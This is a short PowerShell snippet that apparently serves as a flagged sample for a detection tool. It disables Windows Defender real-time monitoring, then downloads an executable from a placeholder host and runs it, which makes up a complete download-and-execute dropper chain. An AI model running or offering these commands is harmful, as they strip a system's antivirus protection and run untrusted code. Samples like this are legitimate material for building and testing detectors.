Set-MpPreference -DisableRealtimeMonitoring $true
Invoke-WebRequest https://files.example.invalid/a.exe -OutFile "$env:TEMP\a.exe"
Start-Process "$env:TEMP\a.exe" # gatehouse: flagged
